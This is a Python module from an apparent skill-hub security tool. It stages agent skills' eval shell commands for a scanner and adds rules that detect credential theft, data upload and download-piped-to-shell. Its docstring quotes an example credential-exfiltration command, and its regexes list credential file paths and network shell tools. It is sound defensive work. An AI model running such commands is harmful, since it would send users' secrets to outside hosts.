"""What only upskill-hub knows a skill will run: its evals' shell commands and input files.

The scanner reads a skill's files as text. upskill-hub also *executes* parts of a skill's
tests file (``skill_meta.json`` or ``evals/evals.json``): ``command`` checks run in a
shell after the agent, and input files (``files``, upskill's ``context.files``) are put in
the agent's workspace. Inside JSON those are escaped strings (``\\u007c bash``), which
pattern rules can miss, so they are written out as plain files beside the skill's for the
scanner to read (:func:`staged_inputs`), and its findings there are mapped back to the
tests file (:func:`map_back`). Each ``command`` check is also listed as upskill-hub's own
``UPSKILLHUB_EVAL_COMMAND`` finding (info), so a reader sees what an eval would run.

The scanner misses what such a command does with the user's secrets (2.3.2 says nothing
about ``cat ~/.aws/credentials | curl -d @- https://...``, even staged as a file), so
:func:`command_findings` adds a few rules of our own, labelled ``[upskill-hub]``: a
command that reads credentials, sends data to a remote host, does both, or pipes a
download into a shell. They are kept few and literal, so that the ordinary checks an eval
runs (``pytest``, ``test -f``, ``grep``, a ``curl`` of a local server) are never flagged.

One rule reads SKILL.md's frontmatter (:func:`allowed_tools_findings`): ``allowed-tools``
that pre-approves any shell command (``Bash``, ``Bash(*)``), which 2.3.2 lets through. An
agent that loads such a skill runs whatever the skill (or a file it reads) says without
asking; a scoped pattern (``Bash(git status:*)``) is not flagged.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, replace

from upskill_hub._util.fsutil import check_relpath
from upskill_hub._util.redact import secret_name
from upskill_hub.errors import UpskillError
from upskill_hub.skill import EVALS_FILE, META_FILE, Skill
from upskill_hub.trust.findings import ANALYZER_UPSKILL_HUB, MAX_SNIPPET_CHARS, Finding

#: Folder (inside the scanned copy) holding what the tests file would run or stage.
STAGE_DIR = "_upskill_hub_eval_inputs"
#: upskill-hub's own rules, with what each means (the docs list them).
RULES = {
    "UPSKILLHUB_EVAL_COMMAND": "an eval `command` check runs this shell command on the machine running the eval",
    "UPSKILLHUB_EVAL_COMMAND_EXFIL": "an eval `command` check reads credentials and sends data over the network",
    "UPSKILLHUB_EVAL_COMMAND_PIPE_TO_SHELL": "an eval `command` check runs code it downloads (piped into a shell)",
    "UPSKILLHUB_EVAL_COMMAND_CREDENTIALS": "an eval `command` check reads credentials (key files, .env, secret variables)",
    "UPSKILLHUB_EVAL_COMMAND_UPLOAD": "an eval `command` check sends data to a host that is not this machine",
    "UPSKILLHUB_ACK_FILE_INVALID": "the skill's skill-scan-ack.yaml is malformed, so it acknowledges nothing",
    "UPSKILLHUB_ALLOWED_TOOLS_ANY_SHELL": "allowed-tools pre-approves any shell command, "
    "so an agent that loads the skill runs commands without asking",
}


@dataclass(frozen=True)
class Staged:
    """Files to add to the scanned copy, and where each came from (for :func:`map_back`)."""

    files: dict[str, bytes]
    #: staged path -> (tests file, what it is: "case 'x' command check" / "case 'x' input file 'a.txt'")
    origin: dict[str, tuple[str, str]]
    #: upskill-hub's own findings (one per ``command`` check).
    findings: list[Finding]


def tests_file(skill: Skill) -> str | None:
    """The skill's tests file (``skill_meta.json`` first, as the loader reads it), if any."""
    return next((f for f in (META_FILE, EVALS_FILE) if f in skill.files), None)


def staged_inputs(skill: Skill) -> Staged:
    """The commands and input files of the skill's cases, as files for the scanner."""
    where = tests_file(skill)
    stage = STAGE_DIR
    while any(rel == stage or rel.startswith(stage + "/") for rel in skill.files):
        stage += "_"
    files: dict[str, bytes] = {}
    origin: dict[str, tuple[str, str]] = {}
    findings: list[Finding] = []
    if where is None:
        return Staged(files, origin, findings)
    text = skill.files[where].decode("utf-8", "replace")
    own = set(skill.files.values())  # input files that are the skill's own: the scanner reads those already
    for n, case in enumerate(skill.meta.cases):
        for j, check in enumerate(case.asserts):
            if check.type != "command" or not isinstance(check.value, str):
                continue
            rel = f"{stage}/case-{n + 1}-check-{j + 1}.sh"
            files[rel] = f"#!/bin/sh\n{check.value}\n".encode()
            origin[rel] = (where, f"case {case.id!r} command check")
            snippet = (
                check.value
                if len(check.value) <= MAX_SNIPPET_CHARS
                else check.value[: MAX_SNIPPET_CHARS - 1] + "…"
            )
            for severity, rule in [("info", "UPSKILLHUB_EVAL_COMMAND"), *command_findings(check.value)]:
                findings.append(
                    Finding(
                        severity=severity,
                        rule=rule,
                        file=where,
                        line=_json_line(text, case.id),
                        snippet=snippet,
                        message=f"case {case.id!r}: {RULES[rule]}",
                        analyzer=ANALYZER_UPSKILL_HUB,
                    )
                )
        for name, content in case.files:
            if isinstance(content, bytes) or content.encode() in own or not _safe_name(name):
                continue  # files that are not text, or the skill's own files
            rel = f"{stage}/case-{n + 1}/{name}"
            files[rel] = content.encode()
            origin[rel] = (where, f"case {case.id!r} input file {name!r}")
    return Staged(files, origin, findings)


#: Files that hold credentials, under a home folder (``~``, ``$HOME``, ``/root``, ``/home/x``).
_CRED_FILE = re.compile(
    r"(?:~|\$\{?HOME\}?|/root|/home/[^/\s]+)/\.(?:ssh|aws|gnupg|kube|docker/config|netrc|git-credentials|npmrc|"
    r"pypirc|config/gh|config/gcloud|azure|huggingface|cache/huggingface/token)"
    r"|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|/etc/shadow\b|/proc/[^/\s]+/environ\b"
    r"|(?:^|[\s'\"=<:/])\.env(?:\.[\w-]+)?(?=$|[\s'\";|&)>])"
)
#: A variable expanded by the shell: ``$HF_TOKEN``, ``${AWS_SECRET_ACCESS_KEY}``.
_VAR = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
#: The whole environment dumped (``env``, ``printenv``, ``set`` with no argument, into a pipe or file).
_ENV_DUMP = re.compile(r"(?:^|[;&|(]\s*)(?:env|printenv|set|export\s+-p)\s*(?:$|[|>;&)])")
#: A tool that sends data: curl's upload options, wget's POST, raw sockets.
_UPLOAD = re.compile(
    r"\bcurl\b[^|;&]*?\s(?:-[A-Za-z]*[dFT]|--data[\w-]*|--form[\w-]*|--upload-file|--json|-X\s*(?:POST|PUT|PATCH))(?=[\s=@'\"]|$)"
    r"|\bwget\b[^|;&]*?\s--(?:post-data|post-file|body-data|body-file|method=(?:POST|PUT|PATCH))"
    r"|\b(?:nc|ncat|netcat|socat|telnet)\s+\S"
    r"|/dev/(?:tcp|udp)/"
)
#: A host named in the command; loopback ones do not count as sending data away.
_HOST = re.compile(r"\b(?:https?|ftp)://(?:[^/\s@]*@)?(\[[^\]]+\]|[^/\s:'\"]+)|/dev/(?:tcp|udp)/([^/\s]+)")
_LOOPBACK = {"localhost", "127.0.0.1", "[::1]", "0.0.0.0"}
#: A download piped or substituted into an interpreter: ``curl ... | sh``, ``bash <(wget ...)``.
_PIPE_TO_SHELL = re.compile(
    r"\b(?:curl|wget|fetch)\b[^;&]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:ba|z|da|k)?sh\b"
    r"|\b(?:curl|wget|fetch)\b[^;&]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:python[\d.]*|perl|ruby|node)\b"
    r"|\b(?:ba|z)?sh\s+(?:-c\s+)?[\"']?(?:<\(|\$\()\s*(?:curl|wget)\b"
    r"|\b(?:eval|source|\.)\s+[\"']?(?:<\(|\$\()\s*(?:curl|wget)\b"
)


def command_findings(command: str) -> list[tuple[str, str]]:
    """upskill-hub's own rules on one eval ``command`` check: ``(severity, rule)`` for each that fires.

    Reading credentials and sending data in one command is exfiltration (critical), and
    replaces the two milder rules; a download run by a shell is critical on its own.
    """
    creds = bool(_CRED_FILE.search(command) or _ENV_DUMP.search(command)) or any(
        secret_name(name) for name in _VAR.findall(command)
    )
    hosts = {(a or b).lower() for a, b in _HOST.findall(command)}
    sends = bool(_UPLOAD.search(command)) and not (hosts and hosts <= _LOOPBACK)
    out: list[tuple[str, str]] = []
    if _PIPE_TO_SHELL.search(command):
        out.append(("critical", "UPSKILLHUB_EVAL_COMMAND_PIPE_TO_SHELL"))
    if creds and sends:
        out.append(("critical", "UPSKILLHUB_EVAL_COMMAND_EXFIL"))
    elif creds:
        out.append(("high", "UPSKILLHUB_EVAL_COMMAND_CREDENTIALS"))
    elif sends:
        out.append(("medium", "UPSKILLHUB_EVAL_COMMAND_UPLOAD"))
    return out


#: One entry of ``allowed-tools``: a tool name and its optional ``(pattern)``.
_TOOL = re.compile(r"([A-Za-z_][\w.-]*)\s*(?:\(([^)]*)\))?")
#: The agents' names for their shell tool (Claude Code, Gemini CLI, Codex/OpenCode).
_SHELL_TOOLS = {"bash", "shell", "run_shell_command", "exec_command"}
#: Patterns that allow every command.
_ANY_COMMAND = {"", "*", "**", ":*", "*:*"}


def allowed_tools_findings(skill: Skill) -> list[Finding]:
    """upskill-hub's rule on SKILL.md's ``allowed-tools``: a shell tool with no scope (high).

    The field is a space-separated string in the spec; Claude Code also writes commas and a
    YAML list, so each entry is read as ``Name`` or ``Name(pattern)`` wherever it stands.
    """
    value = skill.frontmatter.get("allowed-tools")
    entries = value if isinstance(value, list) else [value] if isinstance(value, str) else []
    broad = [
        m.group(0).strip()
        for entry in entries
        if isinstance(entry, str)
        for m in _TOOL.finditer(entry)
        if m.group(1).lower() in _SHELL_TOOLS and (m.group(2) or "").strip() in _ANY_COMMAND
    ]
    if not broad:
        return []
    text = skill.files.get("SKILL.md", b"").decode("utf-8", "replace").splitlines()
    line = next((i + 1 for i, t in enumerate(text) if t.lstrip().startswith("allowed-tools")), None)
    return [
        Finding(
            severity="high",
            rule="UPSKILLHUB_ALLOWED_TOOLS_ANY_SHELL",
            file="SKILL.md",
            line=line,
            snippet=", ".join(broad)[:MAX_SNIPPET_CHARS],
            message=RULES["UPSKILLHUB_ALLOWED_TOOLS_ANY_SHELL"],
            analyzer=ANALYZER_UPSKILL_HUB,
        )
    ]


def map_back(findings: list[Finding], staged: Staged) -> list[Finding]:
    """The scanner's findings with staged paths replaced by the tests file and what they came from."""
    out: list[Finding] = []
    seen: set[tuple] = set()
    for f in findings:
        if f.file in staged.origin:
            where, what = staged.origin[f.file]
            f = replace(f, file=where, line=None, message=f"{what}: {f.message}")
        elif f.file and f.file.startswith(STAGE_DIR):
            f = replace(f, file=next(iter(staged.origin.values()))[0] if staged.origin else None, line=None)
        key = (f.rule, f.file, f.line, f.snippet, f.message)
        if key not in seen:
            seen.add(key)
            out.append(f)
    return out


def _safe_name(name: str) -> bool:
    try:
        check_relpath(name)
    except UpskillError:
        return False
    return True


def _json_line(text: str, case_id: str) -> int | None:
    """The line of the tests file where the case ``case_id`` is named (best effort)."""
    needle = f'"{case_id}"'
    for i, line in enumerate(text.splitlines()):
        if needle in line:
            return i + 1
    return None
